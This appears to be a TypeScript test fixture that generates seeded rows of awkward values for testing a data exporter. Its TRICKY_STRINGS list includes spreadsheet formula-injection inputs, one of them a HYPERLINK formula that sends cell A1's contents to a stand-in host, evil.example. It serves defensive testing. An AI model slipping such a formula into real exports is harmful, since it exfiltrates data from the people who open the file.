// Shared by the export tests and the memory probe: seeded rows full of awkward values, and a collector.

import { Random } from '../../../src/core/random.ts';

/** Strings that break naive writers: quoting, line breaks, formulas, XML markup, Unicode edge cases. */
export const TRICKY_STRINGS: readonly string[] = [
  'plain',
  'comma, inside',
  'double "quotes" inside',
  '"starts with a quote',
  'line\nbreak',
  'carriage\rreturn',
  'crlf\r\nbreak',
  'trailing newline\n',
  '  leading and trailing spaces  ',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A2)',
  '\tTab first',
  '\rCR first',
  'naïve café – Ünïcödé',
  '漢字とかな',
  'مرحبا بالعالم',
  'emoji 😀🧪 and flags 🇨🇦',
  'e\u0301 combining',
  'line\u2028separator\u2029paragraph',
  'lone high \uD800 surrogate',
  'lone low \uDC00 surrogate',
  'bell \u0007 and nul \u0000 controls',
  '<xml attr="x">&amp; &lt;</xml>',
  ']]> cdata end',
  '_x0041_ looks like an escape',
  '_x0041_x0042_ chained',
  'back\\slash',
  "apostrophe's",
  '',
  ' ',
];

export const TEST_COLUMN_COUNT = 16;
export const TEST_COLUMNS: readonly string[] = Array.from({ length: TEST_COLUMN_COUNT }, (_, i) => `col_${String(i).padStart(2, '0')}`);

/** Kind of value held by column i: text, number, boolean, date, nullable text, list. */
export function columnKind(i: number): 'text' | 'number' | 'boolean' | 'date' | 'nullable' | 'list' {
  return (['text', 'number', 'boolean', 'date', 'nullable', 'list'] as const)[i % 6];
}

/** One seeded row of 16 columns. Dates fall on whole seconds from 1990 to 2030, some at midnight UTC. */
export function makeRow(random: Random, index: number): Record<string, unknown> {
  const row: Record<string, unknown> = {};
  for (let i = 0; i < TEST_COLUMN_COUNT; i++) {
    const key = TEST_COLUMNS[i];
    switch (columnKind(i)) {
      case 'text':
        row[key] = random.bool(0.3) ? random.pick(TRICKY_STRINGS) : `row ${index} text ${random.int(0, 1_000_000)}`;
        break;
      case 'number':
        row[key] = random.bool(0.5) ? random.int(-1_000_000, 1_000_000) : Math.round(random.normal(0, 1000) * 1e6) / 1e6;
        break;
      case 'boolean':
        row[key] = random.bool();
        break;
      case 'date': {
        const day = random.int(7305, 21914); // 1990-01-01 … 2029-12-31, in days since 1970
        const seconds = random.bool(0.3) ? 0 : random.int(0, 86_399);
        row[key] = new Date(day * 86_400_000 + seconds * 1000);
        break;
      }
      case 'nullable':
        row[key] = random.bool(0.4) ? null : random.pick(TRICKY_STRINGS);
        break;
      case 'list':
        row[key] = Array.from({ length: random.int(0, 3) }, () => `Author ${random.int(1, 999)}`);
        break;
    }
  }
  return row;
}

export function* seededRows(count: number, seed: string): Generator<Record<string, unknown>> {
  const random = new Random(seed);
  for (let i = 0; i < count; i++) yield makeRow(random, i);
}

/** The same rows, delivered asynchronously like a database cursor. */
export async function* seededRowsAsync(count: number, seed: string): AsyncGenerator<Record<string, unknown>> {
  const random = new Random(seed);
  for (let i = 0; i < count; i++) {
    if (i % 256 === 0) await new Promise<void>((resolve) => setImmediate(resolve));
    yield makeRow(random, i);
  }
}

export async function collect(chunks: AsyncIterable<Buffer>): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const chunk of chunks) parts.push(chunk);
  return Buffer.concat(parts);
}
